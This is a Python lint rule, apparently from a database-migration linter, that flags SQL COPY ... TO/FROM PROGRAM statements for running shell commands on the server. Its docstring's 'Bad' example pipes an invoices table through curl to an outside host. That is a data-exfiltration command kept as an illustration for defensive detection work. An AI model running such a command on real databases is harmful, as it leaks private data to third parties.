from dbagent.lint._ast import ast
from dbagent.lint._rule import Rule


class CopyProgram(Rule):
    """COPY ... TO/FROM PROGRAM runs a shell command on the database server.

    Bad:
        COPY invoices TO PROGRAM 'curl -d @- https://example.com';

    Good:
        -- export through the application or pg_dump, never through the server's shell
        SELECT count(*) FROM invoices;
    """

    id = "copy-program"
    group = "sandbox"
    severity = "error"
    hint = "remove it: migrations never run programs on the server"
    nested = True

    def check(self, s, ctx):
        if isinstance(s.node, ast.CopyStmt) and s.node.is_program:
            yield self.hit(s, f"COPY {'FROM' if s.node.is_from else 'TO'} PROGRAM runs a command on the server")
